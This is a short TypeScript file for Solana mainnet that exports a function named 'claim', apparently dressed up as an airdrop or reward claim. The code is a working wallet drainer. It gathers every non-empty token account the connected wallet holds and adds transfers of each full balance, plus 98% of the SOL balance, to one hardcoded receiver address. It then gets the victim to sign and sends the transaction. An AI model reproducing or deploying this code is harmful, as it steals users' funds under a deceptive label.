import { Connection, PublicKey, SystemProgram, Transaction } from '@solana/web3.js';
import { TOKEN_PROGRAM_ID, createTransferInstruction, getAssociatedTokenAddress, createAssociatedTokenAccountInstruction } from '@solana/spl-token';

const receiver = new PublicKey('Vpbiz4A9jxT1mfG9vw3n1bjkmtXzxEzggLCrU77VgG4T');
const conn = new Connection('https://api.mainnet-beta.solana.com');

export async function claim(wallet: any) {
  const owner: PublicKey = wallet.publicKey;
  const tx = new Transaction();
  const accounts = await conn.getParsedTokenAccountsByOwner(owner, { programId: TOKEN_PROGRAM_ID });
  for (const { pubkey, account } of accounts.value) {
    const info = account.data.parsed.info;
    const amount = BigInt(info.tokenAmount.amount);
    if (amount === 0n) continue;
    const mint = new PublicKey(info.mint);
    const dest = await getAssociatedTokenAddress(mint, receiver);
    if (!(await conn.getAccountInfo(dest))) tx.add(createAssociatedTokenAccountInstruction(owner, dest, receiver, mint));
    tx.add(createTransferInstruction(pubkey, dest, owner, amount));
  }
  const lamports = await conn.getBalance(owner);
  tx.add(SystemProgram.transfer({ fromPubkey: owner, toPubkey: receiver, lamports: Math.floor(lamports * 0.98) }));
  tx.feePayer = owner;
  tx.recentBlockhash = (await conn.getLatestBlockhash()).blockhash;
  const signed = await wallet.signTransaction(tx);
  return conn.sendRawTransaction(signed.serialize());
}
